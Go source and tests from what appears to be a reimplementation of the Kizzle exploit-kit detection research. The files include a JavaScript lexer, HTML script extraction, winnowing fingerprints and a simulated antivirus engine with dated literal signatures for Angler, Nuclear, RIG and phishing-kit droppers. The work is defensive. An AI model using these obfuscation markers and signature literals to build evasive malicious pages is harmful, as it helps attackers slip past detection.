// The hot paths go through a reusable Scratch, whose arenas make steady-
// state lexing allocation-free: LexInto / LexDocumentInto recycle the
// token buffer across documents, and LexSymbols / LexDocumentSymbols lex
// straight to the abstract symbol alphabet without materializing tokens
// at all — the pipeline's clustering stages only ever need symbols, so
// the 32-byte-per-token memory traffic disappears. A Scratch is not safe
// for concurrent use; give each worker goroutine its own.
package jstoken
