package jstoken

import "strings"

// foldIndex returns the first index >= from where tag occurs in doc,
// comparing ASCII case-insensitively, or -1. tag must be lowercase and
// start with a byte that has no case ('<' here), so the lead byte can be
// found with the vectorized IndexByte. This replaces a strings.ToLower
// copy of the whole document: the scanner lexes every incoming response,
// so extraction must not allocate proportional to the document.
func foldIndex(doc string, from int, tag string) int {
	if len(tag) == 0 {
		return from
	}
	for i := from; i+len(tag) <= len(doc); {
		off := strings.IndexByte(doc[i:len(doc)-len(tag)+1], tag[0])
		if off < 0 {
			return -1
		}
		i += off
		if foldEqual(doc[i:i+len(tag)], tag) {
			return i
		}
		i++
	}
	return -1
}

func toLowerByte(c byte) byte {
	if c >= 'A' && c <= 'Z' {
		return c + ('a' - 'A')
	}
	return c
}

// foldEqual reports whether s equals lowercase tag under ASCII folding.
func foldEqual(s, tag string) bool {
	for i := 0; i < len(tag); i++ {
		if toLowerByte(s[i]) != tag[i] {
			return false
		}
	}
	return true
}

// ExtractScripts pulls the contents of all inline <script> elements out of
// an HTML document. A sample in the paper "consists of a complete HTML
// document, including all inline script elements"; Kizzle tokenizes the
// concatenation of those scripts. Inputs that contain no <script> tag are
// treated as raw JavaScript and returned unchanged.
func ExtractScripts(doc string) string {
	first := foldIndex(doc, 0, "<script")
	if first < 0 {
		return doc
	}
	var sb strings.Builder
	i := first
	for {
		open := foldIndex(doc, i, "<script")
		if open < 0 {
			break
		}
		tagEnd := strings.IndexByte(doc[open:], '>')
		if tagEnd < 0 {
			break
		}
		bodyStart := open + tagEnd + 1
		closeIdx := foldIndex(doc, bodyStart, "</script")
		if closeIdx < 0 {
			sb.WriteString(doc[bodyStart:])
			sb.WriteByte('\n')
			break
		}
		sb.WriteString(doc[bodyStart:closeIdx])
		sb.WriteByte('\n')
		closeEnd := strings.IndexByte(doc[closeIdx:], '>')
		if closeEnd < 0 {
			break
		}
		i = closeIdx + closeEnd + 1
	}
	return sb.String()
}

// LexDocument extracts inline scripts from an HTML document (or accepts raw
// JavaScript) and tokenizes the result.
func LexDocument(doc string) []Token {
	return Lex(ExtractScripts(doc))
}
