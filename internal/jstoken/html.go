package jstoken

import "strings"

// ExtractScripts pulls the contents of all inline <script> elements out of
// an HTML document. A sample in the paper "consists of a complete HTML
// document, including all inline script elements"; Kizzle tokenizes the
// concatenation of those scripts. Inputs that contain no <script> tag are
// treated as raw JavaScript and returned unchanged.
func ExtractScripts(doc string) string {
	lower := strings.ToLower(doc)
	if !strings.Contains(lower, "<script") {
		return doc
	}
	var sb strings.Builder
	i := 0
	for {
		open := strings.Index(lower[i:], "<script")
		if open < 0 {
			break
		}
		open += i
		tagEnd := strings.IndexByte(lower[open:], '>')
		if tagEnd < 0 {
			break
		}
		bodyStart := open + tagEnd + 1
		closeIdx := strings.Index(lower[bodyStart:], "</script")
		if closeIdx < 0 {
			sb.WriteString(doc[bodyStart:])
			sb.WriteByte('\n')
			break
		}
		sb.WriteString(doc[bodyStart : bodyStart+closeIdx])
		sb.WriteByte('\n')
		closeEnd := strings.IndexByte(lower[bodyStart+closeIdx:], '>')
		if closeEnd < 0 {
			break
		}
		i = bodyStart + closeIdx + closeEnd + 1
	}
	return sb.String()
}

// LexDocument extracts inline scripts from an HTML document (or accepts raw
// JavaScript) and tokenizes the result.
func LexDocument(doc string) []Token {
	return Lex(ExtractScripts(doc))
}
