package jstoken

import (
	"strings"
	"testing"
	"testing/quick"
)

func classes(tokens []Token) []Class {
	out := make([]Class, len(tokens))
	for i, t := range tokens {
		out[i] = t.Class
	}
	return out
}

func texts(tokens []Token) []string {
	out := make([]string, len(tokens))
	for i, t := range tokens {
		out[i] = t.Text
	}
	return out
}

func equalClasses(a, b []Class) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

// TestLexFigure8 reproduces the paper's Figure 8 tokenization example:
//
//	var Euur1V = this["l9D"]("ev#333399al");
func TestLexFigure8(t *testing.T) {
	src := `var Euur1V = this["l9D"]("ev#333399al");`
	got := Lex(src)
	want := []struct {
		class Class
		text  string
	}{
		{ClassKeyword, "var"},
		{ClassIdentifier, "Euur1V"},
		{ClassPunct, "="},
		{ClassKeyword, "this"},
		{ClassPunct, "["},
		{ClassString, `"l9D"`},
		{ClassPunct, "]"},
		{ClassPunct, "("},
		{ClassString, `"ev#333399al"`},
		{ClassPunct, ")"},
		{ClassPunct, ";"},
	}
	if len(got) != len(want) {
		t.Fatalf("token count = %d, want %d: %v", len(got), len(want), texts(got))
	}
	for i, w := range want {
		if got[i].Class != w.class || got[i].Text != w.text {
			t.Errorf("token %d = (%v, %q), want (%v, %q)", i, got[i].Class, got[i].Text, w.class, w.text)
		}
	}
}

func TestLexTable(t *testing.T) {
	tests := []struct {
		name string
		src  string
		want []Class
	}{
		{"empty", "", nil},
		{"whitespace only", " \t\n\r ", nil},
		{"keyword", "function", []Class{ClassKeyword}},
		{"identifier", "payload", []Class{ClassIdentifier}},
		{"dollar ident", "$x", []Class{ClassIdentifier}},
		{"underscore ident", "_0x2f", []Class{ClassIdentifier}},
		{"number int", "42", []Class{ClassNumber}},
		{"number float", "3.14", []Class{ClassNumber}},
		{"number leading dot", ".5", []Class{ClassNumber}},
		{"number hex", "0xFF", []Class{ClassNumber}},
		{"number exponent", "1e9", []Class{ClassNumber}},
		{"number signed exponent", "2.5e-3", []Class{ClassNumber}},
		{"string double", `"abc"`, []Class{ClassString}},
		{"string single", `'abc'`, []Class{ClassString}},
		{"string template", "`abc`", []Class{ClassString}},
		{"string escape", `"a\"b"`, []Class{ClassString}},
		{"string unterminated", `"abc`, []Class{ClassString}},
		{"line comment", "// hi\nx", []Class{ClassIdentifier}},
		{"block comment", "/* hi */x", []Class{ClassIdentifier}},
		{"unterminated block comment", "/* hi", nil},
		{"regex", `/a+b/g`, []Class{ClassRegex}},
		{"regex after punct", `x = /ab/;`, []Class{ClassIdentifier, ClassPunct, ClassRegex, ClassPunct}},
		{"division not regex", `a / b`, []Class{ClassIdentifier, ClassPunct, ClassIdentifier}},
		{"division after paren", `(a) / b`, []Class{ClassPunct, ClassIdentifier, ClassPunct, ClassPunct, ClassIdentifier}},
		{"regex with class", `/[/]/`, []Class{ClassRegex}},
		{"multi-char punct", "a === b", []Class{ClassIdentifier, ClassPunct, ClassIdentifier}},
		{"shift assign", "a >>>= 1", []Class{ClassIdentifier, ClassPunct, ClassNumber}},
		{"arrow", "x => y", []Class{ClassIdentifier, ClassPunct, ClassIdentifier}},
		{"member access", "document.body", []Class{ClassIdentifier, ClassPunct, ClassIdentifier}},
		{"unknown bytes skipped", "a @ b", []Class{ClassIdentifier, ClassIdentifier}},
		{"keyword prefix ident", "variable", []Class{ClassIdentifier}},
		{"division after this", "this / 2", []Class{ClassKeyword, ClassPunct, ClassNumber}},
		{"regex after return", "return /x/", []Class{ClassKeyword, ClassRegex}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := classes(Lex(tt.src))
			if !equalClasses(got, tt.want) {
				t.Errorf("Lex(%q) classes = %v, want %v", tt.src, got, tt.want)
			}
		})
	}
}

func TestLexPositions(t *testing.T) {
	src := `var x = "y";`
	for _, tok := range Lex(src) {
		if tok.Pos < 0 || tok.Pos+len(tok.Text) > len(src) {
			t.Fatalf("token %q has out-of-range pos %d", tok.Text, tok.Pos)
		}
		if src[tok.Pos:tok.Pos+len(tok.Text)] != tok.Text {
			t.Errorf("token text %q does not match source at pos %d", tok.Text, tok.Pos)
		}
	}
}

func TestTokenValueStripsQuotes(t *testing.T) {
	tests := []struct {
		tok  Token
		want string
	}{
		{Token{Class: ClassString, Text: `"ev#333399al"`}, "ev#333399al"},
		{Token{Class: ClassString, Text: `'x'`}, "x"},
		{Token{Class: ClassString, Text: "`tpl`"}, "tpl"},
		{Token{Class: ClassString, Text: `"unterminated`}, `"unterminated`},
		{Token{Class: ClassIdentifier, Text: `abc`}, "abc"},
		{Token{Class: ClassString, Text: `""`}, ""},
	}
	for _, tt := range tests {
		if got := tt.tok.Value(); got != tt.want {
			t.Errorf("Value(%q) = %q, want %q", tt.tok.Text, got, tt.want)
		}
	}
}

// TestAbstractCollapsesRandomization verifies the core property that makes
// clustering work: samples differing only in identifier names and string
// contents abstract to identical symbol sequences.
func TestAbstractCollapsesRandomization(t *testing.T) {
	a := Abstract(Lex(`Euur1V = this["l9D"]("ev#333399al");`))
	b := Abstract(Lex(`jkb0hA = this["uqA"]("ev#ccff00al");`))
	c := Abstract(Lex(`QB0Xk = this["k3LSC"]("ev#33cc00al");`))
	if len(a) == 0 {
		t.Fatal("no symbols produced")
	}
	for i := range a {
		if a[i] != b[i] || a[i] != c[i] {
			t.Fatalf("symbol %d differs across renamed variants: %v %v %v", i, a[i], b[i], c[i])
		}
	}
}

func TestAbstractDistinguishesStructure(t *testing.T) {
	a := Abstract(Lex(`x = y + 1;`))
	b := Abstract(Lex(`x = y * 1;`))
	same := len(a) == len(b)
	if same {
		for i := range a {
			if a[i] != b[i] {
				same = false
				break
			}
		}
	}
	if same {
		t.Error("different punctuators must map to different symbols")
	}
}

func TestSymbolsDisjoint(t *testing.T) {
	seen := make(map[Symbol]string)
	for _, kw := range keywords {
		sym := Token{Class: ClassKeyword, Text: kw}.Symbol()
		if prev, ok := seen[sym]; ok {
			t.Fatalf("symbol collision: %q and %q both map to %d", prev, kw, sym)
		}
		seen[sym] = kw
	}
	for _, p := range puncts {
		sym := Token{Class: ClassPunct, Text: p}.Symbol()
		if prev, ok := seen[sym]; ok {
			t.Fatalf("symbol collision: %q and %q both map to %d", prev, p, sym)
		}
		seen[sym] = p
	}
	for _, sym := range []Symbol{SymIdentifier, SymString, SymNumber, SymRegex} {
		if prev, ok := seen[sym]; ok {
			t.Fatalf("reserved symbol %d collides with %q", sym, prev)
		}
		seen[sym] = "reserved"
	}
}

func TestExtractScripts(t *testing.T) {
	tests := []struct {
		name string
		doc  string
		want string
	}{
		{
			"plain js passthrough",
			`var x = 1;`,
			`var x = 1;`,
		},
		{
			"single script",
			`<html><script>var x = 1;</script></html>`,
			"var x = 1;\n",
		},
		{
			"two scripts",
			`<script>a();</script><p>hi</p><script type="text/javascript">b();</script>`,
			"a();\nb();\n",
		},
		{
			"unclosed script",
			`<script>a();`,
			"a();\n",
		},
		{
			"case insensitive",
			`<SCRIPT>a();</SCRIPT>`,
			"a();\n",
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := ExtractScripts(tt.doc); got != tt.want {
				t.Errorf("ExtractScripts = %q, want %q", got, tt.want)
			}
		})
	}
}

func TestLexDocument(t *testing.T) {
	toks := LexDocument(`<html><body><script>var x = 5;</script></body></html>`)
	want := []Class{ClassKeyword, ClassIdentifier, ClassPunct, ClassNumber, ClassPunct}
	if !equalClasses(classes(toks), want) {
		t.Errorf("LexDocument classes = %v, want %v", classes(toks), want)
	}
}

// Property: the lexer never panics and token texts are slices of the input
// in order.
func TestLexRobustnessProperty(t *testing.T) {
	f := func(src string) bool {
		tokens := Lex(src)
		last := -1
		for _, tok := range tokens {
			if tok.Pos <= last {
				return false
			}
			if tok.Pos+len(tok.Text) > len(src) {
				return false
			}
			if src[tok.Pos:tok.Pos+len(tok.Text)] != tok.Text {
				return false
			}
			last = tok.Pos
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Error(err)
	}
}

// Property: lexing is deterministic.
func TestLexDeterministicProperty(t *testing.T) {
	f := func(src string) bool {
		a, b := Lex(src), Lex(src)
		if len(a) != len(b) {
			return false
		}
		for i := range a {
			if a[i] != b[i] {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}

// Property: whitespace insertion between tokens does not change the
// abstraction (superfluous-whitespace resistance).
func TestLexWhitespaceInsensitiveProperty(t *testing.T) {
	src := `var a = this["x"](1, "y"); function f() { return a; }`
	compact := Abstract(Lex(src))
	spaced := Abstract(Lex(strings.ReplaceAll(src, " ", "\n\t  ")))
	if len(compact) != len(spaced) {
		t.Fatalf("lengths differ: %d vs %d", len(compact), len(spaced))
	}
	for i := range compact {
		if compact[i] != spaced[i] {
			t.Fatalf("symbol %d differs", i)
		}
	}
}

func BenchmarkLex(b *testing.B) {
	src := strings.Repeat(`var Euur1V = this["l9D"]("ev#333399al"); `, 200)
	b.SetBytes(int64(len(src)))
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		Lex(src)
	}
}

// TestKeywordSwitchMatchesIndex pins the compiled keyword switch to the
// keywords list, so the two representations cannot drift.
func TestKeywordSwitchMatchesIndex(t *testing.T) {
	for _, kw := range keywords {
		if !isKeywordSwitch(kw) {
			t.Errorf("isKeywordSwitch(%q) = false, keywords list disagrees", kw)
		}
	}
	for _, w := range []string{"", "x", "Var", "vars", "functio", "functions", "exports", "brea"} {
		if isKeywordSwitch(w) {
			t.Errorf("isKeywordSwitch(%q) = true for a non-keyword", w)
		}
		if IsKeyword(w) {
			t.Errorf("IsKeyword(%q) = true for a non-keyword", w)
		}
	}
}

// TestLexedSymbolsMatchOnDemand: symbols cached by the lexer must equal
// the map-derived ones computed for hand-built tokens.
func TestLexedSymbolsMatchOnDemand(t *testing.T) {
	src := `var x1 = this["k"](0x1f, 'str', /re/g); if (x1 !== y.z) { throw new Error("e"); }`
	for _, tok := range Lex(src) {
		bare := Token{Class: tok.Class, Text: tok.Text, Pos: tok.Pos}
		if got, want := tok.Symbol(), bare.Symbol(); got != want {
			t.Errorf("token %q: lexed symbol %d, on-demand %d", tok.Text, got, want)
		}
	}
}
