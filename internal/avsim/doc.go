// Package avsim models the anonymized commercial anti-virus engine Kizzle
// is compared against. The engine matches literal byte signatures over the
// raw document — the classic AV approach — and its signature set evolves on
// an analyst timetable: when a kit mutates past the current signatures, a
// human writes a new one and it ships days later (the adversarial cycle of
// Figure 1 and the window of vulnerability of Figure 6).
package avsim
