package avsim

import (
	"sort"
	"strings"
)

// ManualSignature is one analyst-written literal signature.
type ManualSignature struct {
	// Name labels the signature as in Figure 12 (e.g. "ANG.sig2").
	Name string
	// Family is the kit the analyst targeted.
	Family string
	// Literal is the byte pattern matched against the raw document.
	Literal string
	// ReleaseDay is the simulation day the signature shipped; before
	// that day the engine does not know it.
	ReleaseDay int
	// RetireDay, if positive, is the day the vendor pulled the
	// signature (e.g. after false-positive complaints).
	RetireDay int
}

// Engine is a deployed AV engine with a dated signature database.
type Engine struct {
	sigs []ManualSignature
}

// NewEngine builds an engine from a signature history. Signatures are
// sorted by release day for stable iteration.
func NewEngine(sigs []ManualSignature) *Engine {
	sorted := make([]ManualSignature, len(sigs))
	copy(sorted, sigs)
	sort.SliceStable(sorted, func(i, j int) bool { return sorted[i].ReleaseDay < sorted[j].ReleaseDay })
	return &Engine{sigs: sorted}
}

// Active returns the signatures deployed on a given day.
func (e *Engine) Active(day int) []ManualSignature {
	var out []ManualSignature
	for _, s := range e.sigs {
		if s.ReleaseDay <= day && (s.RetireDay <= 0 || day < s.RetireDay) {
			out = append(out, s)
		}
	}
	return out
}

// Scan matches the day's active signatures against a raw document and
// returns the families of all hits.
func (e *Engine) Scan(doc string, day int) []string {
	var out []string
	seen := make(map[string]bool)
	for _, s := range e.Active(day) {
		if strings.Contains(doc, s.Literal) && !seen[s.Family] {
			seen[s.Family] = true
			out = append(out, s.Family)
		}
	}
	return out
}

// Detects reports whether any active signature matches.
func (e *Engine) Detects(doc string, day int) bool {
	for _, s := range e.Active(day) {
		if strings.Contains(doc, s.Literal) {
			return true
		}
	}
	return false
}

// SignatureCount returns the number of signatures deployed on day.
func (e *Engine) SignatureCount(day int) int { return len(e.Active(day)) }
