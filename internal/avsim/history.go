package avsim

import "kizzle/internal/ekit"

// August2014History reproduces the commercial engine's signature timeline
// for the evaluation month, matching the red call-outs of Figure 12 and the
// narrative of Example 1 / Figure 6:
//
//   - Angler was covered by a signature on the plain-HTML Java applet
//     marker; on 8/13 the kit moved the marker into the packed body and the
//     engine fell back to a gate-rotator signature covering only ~45% of
//     traffic until a (too generic) replacement shipped on 8/19 — which
//     then also matched legitimate hex decoders, the engine's main
//     false-positive source.
//   - Nuclear was tracked through its eval-delimiter literals; the analyst
//     lag behind the 8/17→8/26 delimiter churn is the engine's main
//     false-negative source late in the month.
//   - RIG signatures key on the delimiter declaration and are refreshed
//     with a ~2-day lag; old ones are retired on replacement.
//   - Sweet Orange's Math.sqrt obfuscation is stable, so one signature
//     holds all month.
func August2014History() []ManualSignature {
	nek := func(delim string) string { return "ev" + delim + "al" }
	rig := func(delim string) string { return `="` + delim + `";` }
	return []ManualSignature{
		// Angler (Example 1, Figure 6).
		{Name: "ANG.sig1", Family: "Angler", Literal: ekit.AnglerJavaMarker, ReleaseDay: ekit.Date(7, 10)},
		{Name: "ANG.sig2", Family: "Angler", Literal: ekit.AnglerGateMarker, ReleaseDay: ekit.Date(7, 18)},
		{Name: "ANG.sig3", Family: "Angler", Literal: ",2),16))", ReleaseDay: ekit.Date(8, 19)},

		// Nuclear (Figure 12's NEK call-outs; first response to the
		// late-August delimiter churn emerges 8/25).
		{Name: "NEK.sig1", Family: "Nuclear", Literal: nek("3fwrwg4#"), ReleaseDay: ekit.Date(7, 23)},
		{Name: "NEK.sig2", Family: "Nuclear", Literal: nek("fber443"), ReleaseDay: ekit.Date(8, 25)},
		{Name: "NEK.sig3", Family: "Nuclear", Literal: nek("UluN"), ReleaseDay: ekit.Date(8, 30)},

		// RIG (Figure 12's RIG.sig series), ~2-day analyst lag, retired
		// on replacement.
		{Name: "RIG.sig4", Family: "RIG", Literal: rig("zw"), ReleaseDay: ekit.Date(8, 1), RetireDay: ekit.Date(8, 9)},
		{Name: "RIG.sig5", Family: "RIG", Literal: rig("c9d"), ReleaseDay: ekit.Date(8, 9), RetireDay: ekit.Date(8, 17)},
		{Name: "RIG.sig6", Family: "RIG", Literal: rig("u5"), ReleaseDay: ekit.Date(8, 17), RetireDay: ekit.Date(8, 25)},
		{Name: "RIG.sig7", Family: "RIG", Literal: rig("hh2"), ReleaseDay: ekit.Date(8, 25)},

		// Sweet Orange: the stable obfuscation literal.
		{Name: "SO.sig1", Family: "Sweet Orange", Literal: ".substr(Math.sqrt(", ReleaseDay: ekit.Date(7, 15)},
	}
}
