package avsim

import "kizzle/internal/ekit"

// WebkitHistory is the commercial engine's signature timeline for the
// phishing-kit workload. Analysts key on the deployment shells (the
// base64 dropper wrappers), which are structurally stable per kit — the
// payload cores underneath re-randomize per version epoch but never
// appear in the raw document, so shell signatures hold across epochs:
//
//   - strato_v2 and chalbhai are old, well-tracked kits; their shell
//     signatures predate the evaluation window.
//   - xbalti surfaced recently: its create_function dropper signature
//     ships mid-window, leaving an early-August coverage gap (the
//     workload's window-of-vulnerability analog of Nuclear's lag).
//   - 16shop's double-wrapped checkout shell is covered all month.
func WebkitHistory() []ManualSignature {
	return []ManualSignature{
		{Name: "STR.sig1", Family: "strato_v2", Literal: `class="session-wait"`, ReleaseDay: ekit.Date(7, 2)},
		{Name: "CHB.sig1", Family: "chalbhai", Literal: `<table class="frame">`, ReleaseDay: ekit.Date(7, 9)},
		{Name: "XBL.sig1", Family: "xbalti", Literal: `create_function('',base64_decode(`, ReleaseDay: ekit.Date(8, 12)},
		{Name: "16S.sig1", Family: "16shop", Literal: `class="checkout-`, ReleaseDay: ekit.Date(7, 20)},
	}
}
