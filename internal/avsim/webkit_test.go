package avsim

import (
	"testing"

	"kizzle/internal/ekit"
	"kizzle/internal/phishkit"
)

// TestWebkitHistoryMatchesPackedKits guards the shell literals against
// drift in the phishkit packers: once released, each signature must hit
// its family's packed deployments (on any day — shells are stable across
// version epochs) and nothing else.
func TestWebkitHistoryMatchesPackedKits(t *testing.T) {
	e := NewEngine(WebkitHistory())
	byName := make(map[string]phishkit.Family)
	for _, f := range phishkit.Families {
		byName[f.String()] = f
	}
	day := ekit.Date(8, 20) // past every release day
	for _, sig := range WebkitHistory() {
		fam, ok := byName[sig.Family]
		if !ok {
			t.Fatalf("%s targets unknown family %q", sig.Name, sig.Family)
		}
		doc := phishkit.Pack(fam, phishkit.Payload(fam, day), day, 0)
		got := e.Scan(doc, day)
		if len(got) != 1 || got[0] != sig.Family {
			t.Errorf("%s: scan of packed %s returned %v", sig.Name, sig.Family, got)
		}
		if e.Detects(doc, sig.ReleaseDay-1) {
			t.Errorf("%s: detected before its release day", sig.Name)
		}
	}
	for _, kind := range phishkit.BenignKinds() {
		if got := e.Scan(phishkit.BenignSample(kind, day, 0), day); len(got) != 0 {
			t.Errorf("benign %s page flagged as %v", kind, got)
		}
	}
}
