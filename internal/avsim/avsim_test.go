package avsim

import (
	"testing"

	"kizzle/internal/ekit"
)

func TestActiveRespectsReleaseAndRetire(t *testing.T) {
	e := NewEngine([]ManualSignature{
		{Name: "a", Family: "X", Literal: "aaa", ReleaseDay: 10, RetireDay: 20},
		{Name: "b", Family: "X", Literal: "bbb", ReleaseDay: 15},
	})
	tests := []struct {
		day  int
		want int
	}{
		{5, 0}, {10, 1}, {14, 1}, {15, 2}, {19, 2}, {20, 1}, {30, 1},
	}
	for _, tt := range tests {
		if got := e.SignatureCount(tt.day); got != tt.want {
			t.Errorf("day %d: %d active, want %d", tt.day, got, tt.want)
		}
	}
}

func TestScanMatchesLiteral(t *testing.T) {
	e := NewEngine([]ManualSignature{
		{Name: "s", Family: "RIG", Literal: `="y6";`, ReleaseDay: 0},
	})
	if !e.Detects(`var d="y6";`, 1) {
		t.Error("literal must match")
	}
	if e.Detects(`var d="y7";`, 1) {
		t.Error("non-matching literal")
	}
	fams := e.Scan(`var d="y6";`, 1)
	if len(fams) != 1 || fams[0] != "RIG" {
		t.Errorf("Scan = %v", fams)
	}
}

func TestScanDedupesFamilies(t *testing.T) {
	e := NewEngine([]ManualSignature{
		{Name: "s1", Family: "RIG", Literal: "aaa", ReleaseDay: 0},
		{Name: "s2", Family: "RIG", Literal: "bbb", ReleaseDay: 0},
	})
	fams := e.Scan("aaa bbb", 1)
	if len(fams) != 1 {
		t.Errorf("Scan = %v, want one deduped family", fams)
	}
}

// TestWindowOfVulnerability reproduces the Figure 6 mechanics against real
// generated Angler traffic: near-full coverage before 8/13, roughly half
// coverage during the window, recovery after 8/19.
func TestWindowOfVulnerability(t *testing.T) {
	e := NewEngine(August2014History())
	cfg := ekit.DefaultStreamConfig()
	cfg.BenignPerDay = 0
	stream, err := ekit.NewStream(cfg)
	if err != nil {
		t.Fatal(err)
	}
	fnRate := func(day int) float64 {
		total, missed := 0, 0
		for _, s := range stream.Day(day) {
			if s.Family != ekit.FamilyAngler {
				continue
			}
			total++
			if !e.Detects(s.Content, day) {
				missed++
			}
		}
		if total == 0 {
			return 0
		}
		return float64(missed) / float64(total)
	}
	if r := fnRate(ekit.Date(8, 10)); r > 0.05 {
		t.Errorf("8/10 Angler FN rate = %v, want ~0 before the window", r)
	}
	if r := fnRate(ekit.Date(8, 15)); r < 0.3 || r > 0.8 {
		t.Errorf("8/15 Angler FN rate = %v, want ~0.55 inside the window", r)
	}
	if r := fnRate(ekit.Date(8, 22)); r > 0.05 {
		t.Errorf("8/22 Angler FN rate = %v, want ~0 after the generic signature", r)
	}
}

// TestNuclearLag verifies the engine loses Nuclear during the late-August
// delimiter churn and recovers with each NEK release.
func TestNuclearLag(t *testing.T) {
	e := NewEngine(August2014History())
	cfg := ekit.DefaultStreamConfig()
	cfg.BenignPerDay = 0
	stream, err := ekit.NewStream(cfg)
	if err != nil {
		t.Fatal(err)
	}
	missRate := func(day int) float64 {
		total, missed := 0, 0
		for _, s := range stream.Day(day) {
			if s.Family != ekit.FamilyNuclear {
				continue
			}
			total++
			if !e.Detects(s.Content, day) {
				missed++
			}
		}
		if total == 0 {
			return -1
		}
		return float64(missed) / float64(total)
	}
	if r := missRate(ekit.Date(8, 5)); r > 0.05 && r >= 0 {
		t.Errorf("8/5 Nuclear FN = %v, want ~0 (NEK.sig1 active)", r)
	}
	if r := missRate(ekit.Date(8, 20)); r >= 0 && r < 0.5 {
		t.Errorf("8/20 Nuclear FN = %v, want high (analyst lag)", r)
	}
}

// TestGenericSignatureFalsePositives: the 8/19 Angler response matches the
// benign hex loader, the engine's dominant FP source (Figure 13a / 14).
func TestGenericSignatureFalsePositives(t *testing.T) {
	e := NewEngine(August2014History())
	doc := ekit.BenignSample(ekit.BenignHexLoader, ekit.Date(8, 20), 0)
	if e.Detects(doc, ekit.Date(8, 10)) {
		t.Error("hexloader must not be flagged before 8/19")
	}
	if !e.Detects(doc, ekit.Date(8, 20)) {
		t.Error("hexloader must be flagged by the generic 8/19 signature")
	}
}

func TestSweetOrangeStableCoverage(t *testing.T) {
	e := NewEngine(August2014History())
	cfg := ekit.DefaultStreamConfig()
	cfg.BenignPerDay = 0
	stream, err := ekit.NewStream(cfg)
	if err != nil {
		t.Fatal(err)
	}
	for _, day := range []int{ekit.Date(8, 2), ekit.Date(8, 15), ekit.Date(8, 28)} {
		for _, s := range stream.Day(day) {
			if s.Family != ekit.FamilySweetOrange {
				continue
			}
			if !e.Detects(s.Content, day) {
				t.Errorf("day %s: Sweet Orange sample %s missed", ekit.Label(day), s.ID)
			}
		}
	}
}
