package winnow

import (
	"math/rand"
	"strings"
	"testing"
	"testing/quick"
)

func TestFingerprintDeterministic(t *testing.T) {
	text := "var buffer = ''; buffer += chunk; document.body.appendChild(el);"
	a := Fingerprint(text, DefaultConfig())
	b := Fingerprint(text, DefaultConfig())
	if Overlap(a, b) != 1 {
		t.Error("identical documents must overlap fully")
	}
	if len(a) != len(b) {
		t.Error("fingerprinting not deterministic")
	}
}

func TestFingerprintShort(t *testing.T) {
	h := Fingerprint("ab", DefaultConfig())
	if h.Total() != 1 {
		t.Errorf("short doc total = %d, want 1", h.Total())
	}
}

func TestFingerprintEmpty(t *testing.T) {
	h := Fingerprint("", DefaultConfig())
	if h.Total() != 1 {
		t.Errorf("empty doc total = %d, want 1 (whole-text hash)", h.Total())
	}
}

func TestFingerprintZeroConfigDefaults(t *testing.T) {
	text := strings.Repeat("function detect() { return navigator.plugins; } ", 10)
	a := Fingerprint(text, Config{})
	b := Fingerprint(text, DefaultConfig())
	if Overlap(a, b) != 1 {
		t.Error("zero config must fall back to defaults")
	}
}

func TestOverlapIdentical(t *testing.T) {
	text := strings.Repeat("try { new ActiveXObject('PDF.PdfCtrl'); } catch (e) {} ", 20)
	h := Fingerprint(text, DefaultConfig())
	if got := Overlap(h, h); got != 1 {
		t.Errorf("self overlap = %v, want 1", got)
	}
}

func TestOverlapDisjoint(t *testing.T) {
	a := Fingerprint(strings.Repeat("aaaaaaaaaabbbbbbbbbb", 10), DefaultConfig())
	b := Fingerprint(strings.Repeat("0123456789!@#$%^&*()", 10), DefaultConfig())
	if got := Overlap(a, b); got > 0.05 {
		t.Errorf("disjoint overlap = %v, want ~0", got)
	}
}

func TestOverlapEmpty(t *testing.T) {
	a := Fingerprint("some text here that is long enough", DefaultConfig())
	if got := Overlap(a, Histogram{}); got != 0 {
		t.Errorf("overlap with empty = %v, want 0", got)
	}
	if got := Overlap(Histogram{}, Histogram{}); got != 0 {
		t.Errorf("overlap of empties = %v, want 0", got)
	}
}

// TestOverlapDetectsSharedCore models the paper's key observation: a sample
// whose inner payload is reused (with a changed outer wrapper) must retain
// high winnow overlap with the original.
func TestOverlapDetectsSharedCore(t *testing.T) {
	core := strings.Repeat("if (pdf) { exploit_cve_2013_2551(target); spray(heap); } ", 30)
	v1 := "var a1 = 'xyz';" + core + "a1();"
	v2 := "window.q9 = function(){};" + core + "q9();"
	got := Overlap(Fingerprint(v1, DefaultConfig()), Fingerprint(v2, DefaultConfig()))
	if got < 0.85 {
		t.Errorf("shared-core overlap = %v, want >= 0.85", got)
	}
}

// TestOverlapDropsWithChange verifies overlap decreases monotonically-ish
// with the fraction of replaced content (RIG's URL churn behaviour,
// Figure 11d).
func TestOverlapDropsWithChange(t *testing.T) {
	rng := rand.New(rand.NewSource(9))
	base := randomText(rng, 2000)
	prev := 1.0
	h0 := Fingerprint(base, DefaultConfig())
	for _, frac := range []float64{0.1, 0.3, 0.6, 0.9} {
		mutated := mutate(rng, base, frac)
		got := Overlap(h0, Fingerprint(mutated, DefaultConfig()))
		if got > prev+0.15 {
			t.Errorf("overlap at %.0f%% churn = %v, previous %v: not decreasing", frac*100, got, prev)
		}
		prev = got
	}
	if prev > 0.3 {
		t.Errorf("overlap at 90%% churn = %v, want < 0.3", prev)
	}
}

// TestWinnowGuarantee checks the winnowing guarantee: any match of length
// >= Window + K - 1 shares at least one fingerprint.
func TestWinnowGuarantee(t *testing.T) {
	cfg := DefaultConfig()
	rng := rand.New(rand.NewSource(21))
	shared := randomText(rng, cfg.Window+cfg.K-1)
	for i := 0; i < 50; i++ {
		a := randomText(rng, 200) + shared + randomText(rng, 200)
		b := randomText(rng, 150) + shared + randomText(rng, 250)
		ha, hb := Fingerprint(a, cfg), Fingerprint(b, cfg)
		common := false
		for k := range ha {
			if _, ok := hb[k]; ok {
				common = true
				break
			}
		}
		if !common {
			t.Fatalf("iteration %d: winnowing guarantee violated for shared substring %q", i, shared)
		}
	}
}

func TestHistogramMerge(t *testing.T) {
	a := Histogram{1: 2, 2: 1}
	a.Merge(Histogram{2: 3, 5: 1})
	if a[1] != 2 || a[2] != 4 || a[5] != 1 {
